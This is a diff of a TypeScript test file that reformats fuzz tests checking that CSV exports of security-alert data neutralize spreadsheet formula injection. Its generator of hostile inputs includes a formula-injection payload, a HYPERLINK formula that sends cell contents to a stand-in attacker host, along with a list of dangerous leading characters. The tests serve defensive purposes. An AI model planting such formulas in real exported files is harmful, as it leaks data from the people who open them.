@@ -59,7 +59,10 @@ const DANGEROUS_START = /^[=+\-@\t\r\0]/;
 
 const hostileText = fc.oneof(
   fc
-    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\0', ' =', '\u202e', '\u2066=', '"', "'", ',', '\uFF1D'), fc.string({ unit: 'grapheme', maxLength: 12 }))
+    .tuple(
+      fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\0', ' =', '\u202e', '\u2066=', '"', "'", ',', '\uFF1D'),
+      fc.string({ unit: 'grapheme', maxLength: 12 }),
+    )
     .map(([start, rest]) => start + rest),
   fc.constantFrom(
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -204,7 +207,12 @@ describe('CSV export of hostile provider data', () => {
           rows.map((r) => [r.deviceName, r.serial, r.serialKey, r.platform].map((v) => (v === null ? '' : neutralizeFormula(v)))),
         );
         // Re-parsed and un-neutralized, the serial column is exactly what the provider sent.
-        expect(records.slice(1).map((r) => restoreFormula(r[2]!)).sort()).toEqual(serials.map((s) => s.toWellFormed()).sort());
+        expect(
+          records
+            .slice(1)
+            .map((r) => restoreFormula(r[2]!))
+            .sort(),
+        ).toEqual(serials.map((s) => s.toWellFormed()).sort());
         for (const record of records) {
           expect(record).toHaveLength(11);
           for (const cell of record) expect(cell, `a cell that could run as a formula: ${JSON.stringify(cell)}`).not.toMatch(DANGEROUS_START);
@@ -231,7 +239,11 @@ describe('CSV export of hostile provider data', () => {
     const byDevice = new Map(records.slice(1).map((r) => [r[column('device')]!, r]));
     const got = names.map((name) => [restoreFormula(byDevice.get(name)![column('serial')]!), byDevice.get(name)![column('match_key')]]);
     expect(got).toEqual(ODD_SERIALS.map((serial) => [serial, expect.any(String)]));
-    expect(Object.fromEntries(got.slice(0, 3).map(([serial, key]) => [serial, key]))).toEqual({ 'SN-00002': 'SN00002', 'sn-00002-b': 'SN00002B', c02xk1zzjg5j: 'C02XK1ZZJG5J' });
+    expect(Object.fromEntries(got.slice(0, 3).map(([serial, key]) => [serial, key]))).toEqual({
+      'SN-00002': 'SN00002',
+      'sn-00002-b': 'SN00002B',
+      c02xk1zzjg5j: 'C02XK1ZZJG5J',
+    });
     // A placeholder is shown as reported but is no match key.
     expect(byDevice.get(names[ODD_SERIALS.indexOf('To Be Filled By O.E.M.')]!)![column('match_key')]).toBe('');
     // The log's rows (table and drawer) carry the same: the serial as reported, the key apart.
@@ -253,8 +265,25 @@ describe('CSV export of hostile provider data', () => {
           const n = next++;
           const created = new Date(base + n * 1000).toISOString();
           const summary: AlertSummary = {
-            compositeId: `cid:ind:aid:${n}`, createdTimestamp: created, aggregateId: `agg:${n}`, severity: 90, severityName: 'Critical', tactic, technique: null, techniqueId: null,
-            name, product: 'epp', deviceId: null, hostname, platform: null, filename: null, cmdline: name, userName: null, sha256: null, md5: null, falconLink: null,
+            compositeId: `cid:ind:aid:${n}`,
+            createdTimestamp: created,
+            aggregateId: `agg:${n}`,
+            severity: 90,
+            severityName: 'Critical',
+            tactic,
+            technique: null,
+            techniqueId: null,
+            name,
+            product: 'epp',
+            deviceId: null,
+            hostname,
+            platform: null,
+            filename: null,
+            cmdline: name,
+            userName: null,
+            sha256: null,
+            md5: null,
+            falconLink: null,
           };
           return {
             raw: { composite_id: summary.compositeId, created_timestamp: created, severity: 90, hostname, name, tactic },
@@ -264,7 +293,14 @@ describe('CSV export of hostile provider data', () => {
             rule: { index: 0, id: 'r1', name: `=Rule ${name}`, outcome: { action: 'create_incident', priority: 'P1', auto_contain_host: false } },
           };
         });
-        await repository.commitPoll({ integrationId: 'hostile', at: new Date().toISOString(), hostEnrichment: false, alerts, cursor: alerts.at(-1)!.summary.createdTimestamp, horizonKey: null });
+        await repository.commitPoll({
+          integrationId: 'hostile',
+          at: new Date().toISOString(),
+          hostEnrichment: false,
+          alerts,
+          cursor: alerts.at(-1)!.summary.createdTimestamp,
+          horizonKey: null,
+        });
         reported.incidents += alerts.length;
 
         const { csv } = await call(app, 'incidents.exportCsv', { integrationId: 'hostile' });
